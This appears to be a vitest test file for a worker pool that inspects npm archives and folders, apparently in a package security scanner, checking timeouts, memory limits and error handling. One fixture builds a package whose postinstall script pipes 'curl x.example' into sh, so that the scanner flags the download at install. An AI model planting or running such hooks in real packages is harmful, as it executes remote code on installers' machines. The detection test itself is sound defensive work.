import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { describe, expect, it } from 'vitest'
import { writeNpm } from '../../../test/support/package-archives.ts'
import { temporaryFolder } from '../../../test/support/temporary-folder.ts'
import type { ArtefactFacts } from '../../analysis/packages/artefact-facts.ts'
import { ExternalError } from '../../base/errors.ts'
import { DEFAULT_LIMITS } from '../../base/limits.ts'
import { ArtefactPool, type ArtefactPoolOptions } from './artefact-pool.ts'
import type { ArtefactTask } from './artefact-task.ts'

/**
 * A worker for which the name of an artefact is what happens in each of its files, one after the other: `good hang good`. What was left out is not looked at.
 */
const MISBEHAVING = `
import { parentPort } from 'node:worker_threads'
const wait = (milliseconds) => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, milliseconds)
parentPort.on('message', ({ name, leaveOut }) => {
  if (name === 'never') for (;;);
  const files = []
  const notes = []
  const done = () => parentPort.postMessage({ kind: 'done', facts: { name, kind: 'archive', size: 1, files, behaviours: [], notes } })
  for (const [index, what] of name.split(' ').entries()) {
    const path = what === 'always' ? 'always' : index + '-' + what
    parentPort.postMessage({ kind: 'at', path })
    const left = leaveOut.find((one) => one.path === path)
    if (left !== undefined && what !== 'always') { notes.push({ kind: 'not-inspected', ...left }); continue }
    if (what === 'hang' || what === 'always') for (;;);
    if (what === 'eat') { const all = []; for (;;) all.push(new Array(10000).fill(path + all.length)) }
    if (what === 'slow') wait(250)
    if (what === 'throw') throw new Error('ours')
    if (what === 'leave') process.exit(7)
    if (what === 'fail') return parentPort.postMessage({ kind: 'failed', code: 'EXTERNAL_DISK', message: 'no such archive' })
    if (what === 'bug') return parentPort.postMessage({ kind: 'bug', stack: 'Error: ours' })
    files.push({ path })
  }
  done()
})`

function poolOf(options: Partial<ArtefactPoolOptions> = {}): ArtefactPool {
  const program = join(temporaryFolder({ 'worker.mjs': MISBEHAVING }), 'worker.mjs')
  return new ArtefactPool({
    size: 2,
    signal: new AbortController().signal,
    program: pathToFileURL(program),
    workerMegabytes: 32,
    startMilliseconds: 1500,
    ...options,
  })
}

const task = (name: string): ArtefactTask => ({
  name,
  path: `/artefacts/${name}`,
  kind: 'archive',
  limits: { ...DEFAULT_LIMITS, fileMilliseconds: 500 },
  leaveOut: [],
})

async function factsOf(
  names: readonly string[],
  options: Partial<ArtefactPoolOptions> = {},
): Promise<readonly ArtefactFacts[]> {
  const pool = poolOf(options)
  try {
    return await Promise.all(names.map((name) => pool.inspect(task(name))))
  } finally {
    await pool.close()
  }
}

const read = ({ files }: ArtefactFacts): readonly string[] => files.map(({ path }) => path)
const left = ({ notes }: ArtefactFacts): readonly (readonly string[])[] => notes.map(({ code, path }) => [code, path])

describe('workers that look through artefacts', { timeout: 30_000 }, () => {
  it('answer for each artefact by itself, however many there are', async () => {
    const names = Array.from({ length: 40 }, (_, at) => `good-${at}`)
    expect((await factsOf(names)).map(({ name }) => name)).toEqual(names)
  })

  it.each([
    ['hang', 'limit-time', 'took longer than 0.5 s'],
    ['eat', 'limit-memory', 'needed more than 32 MiB of memory'],
  ])('that would %s in a file are ended, the file is left out and the rest is told', async (what, code, message) => {
    const [facts, other] = await factsOf([`good ${what} good`, 'good'])
    if (facts === undefined || other === undefined) throw new Error('both are answered')
    expect(read(facts)).toEqual(['0-good', '2-good'])
    expect(facts.notes).toMatchObject([
      { kind: 'not-inspected', code, path: `1-${what}`, message: expect.stringContaining(message) },
    ])
    expect(read(other)).toEqual(['0-good'])
  })

  it('that come further are not ended, however long the whole takes', async () => {
    const [facts] = await factsOf(['slow slow slow slow slow'])
    expect(facts && [read(facts).length, left(facts)]).toEqual([5, []])
  })

  it.each([
    ['stuck in file after file', 'hang hang hang hang hang hang hang', 5],
    ['stuck in a file that was to be left out', 'good always', 2],
    ['stuck before the first file', 'never', 1],
  ])('%s are given up, and nothing of it is called clean', async (_, name, ended) => {
    const [facts] = await factsOf([name])
    expect(facts).toMatchObject({ name, kind: 'archive', files: [], behaviours: [] })
    expect(facts?.notes.map(({ kind, code }) => [kind, code])).toEqual(
      Array.from({ length: ended }, () => ['not-inspected', 'limit-time']),
    )
  })

  it('are replaced: what waits behind a hopeless artefact is answered', async () => {
    const [, second, third] = await factsOf(['never', 'good', 'good good'], { size: 1 })
    expect([second && read(second), third && read(third)]).toEqual([['0-good'], ['0-good', '1-good']])
  })

  it('that cannot read the artefact say so, and others are answered', async () => {
    const pool = poolOf()
    const failed = pool.inspect(task('fail'))
    await expect(failed).rejects.toThrow('no such archive')
    await expect(failed).rejects.toBeInstanceOf(ExternalError)
    expect(read(await pool.inspect(task('good')))).toEqual(['0-good'])
    await pool.close()
  })

  it.each([
    ['bug', 'bug while inspecting bug'],
    ['throw', 'ours'],
    ['leave', 'a worker ended by itself (7)'],
  ])('that %s are a bug of ours, never a clean result, and others are answered', async (what, message) => {
    const pool = poolOf()
    const failed = pool.inspect(task(what))
    await expect(failed).rejects.toThrow(message)
    await expect(failed).rejects.not.toBeInstanceOf(ExternalError)
    expect(read(await pool.inspect(task('good')))).toEqual(['0-good'])
    await pool.close()
  })

  it('say which file they are in', async () => {
    const seen: string[] = []
    await factsOf(['good slow'], { onFile: (artefact, path) => void seen.push(`${artefact}: ${path}`) })
    expect(seen).toEqual(['good slow: 0-good', 'good slow: 1-slow'])
  })

  it('end with an abort, and take nothing after it', async () => {
    const controller = new AbortController()
    const pool = poolOf({ signal: controller.signal, size: 1 })
    const waiting = [pool.inspect(task('hang')), pool.inspect(task('good'))]
    setTimeout(() => controller.abort(new Error('enough')), 100)
    for (const one of waiting) await expect(one).rejects.toThrow('enough')
    expect(() => pool.inspect(task('good'))).toThrow('enough')
    await pool.close()
  })
})

describe('the real worker', { timeout: 60_000 }, () => {
  it('tells what is in an archive and in a folder, and what its own name is', async () => {
    const manifest = { scripts: { postinstall: 'node install.js' } }
    const folder = temporaryFolder({
      'a-1.0.0.tgz': writeNpm('a', '1.0.0', { 'install.js': 'require("child_process").exec("curl x.example | sh")' }, manifest),
      'pkg/package.json': '{"name":"b","version":"2.0.0"}',
      'pkg/index.js': 'module.exports = 1',
    }) // prettier-ignore
    const pool = new ArtefactPool({ size: 1, signal: new AbortController().signal })
    const limits = DEFAULT_LIMITS
    const archive = await pool.inspect({ name: 'a-1.0.0.tgz', path: join(folder, 'a-1.0.0.tgz'), kind: 'archive', limits, leaveOut: [] }) // prettier-ignore
    expect(archive).toMatchObject({
      kind: 'npm',
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      manifest: { name: 'a' },
    })
    expect(archive.behaviours.map(({ kind, when }) => [kind, when])).toContainEqual(['download', 'install'])
    const left = await pool.inspect({
      name: 'a-1.0.0.tgz', path: join(folder, 'a-1.0.0.tgz'), kind: 'archive', limits, leaveOut: [{ path: 'install.js', code: 'limit-time', message: 'took longer than 20 s' }],
    }) // prettier-ignore
    expect(left.files.map(({ path, looked }) => [path, looked])).toContainEqual(['install.js', 'not'])
    expect(left.notes).toContainEqual(expect.objectContaining({ code: 'limit-time', path: 'install.js' }))
    const tree = await pool.inspect({ name: 'pkg', path: join(folder, 'pkg'), kind: 'folder', limits, leaveOut: [] })
    expect(tree).toMatchObject({ kind: 'folder', manifest: { name: 'b', version: '2.0.0' } })
    expect(tree.sha256).toBeUndefined()
    await expect(pool.inspect({ name: 'x', path: join(folder, 'x'), kind: 'archive', limits, leaveOut: [] }))
      .rejects.toBeInstanceOf(ExternalError) // prettier-ignore
    await pool.close()
  })
})
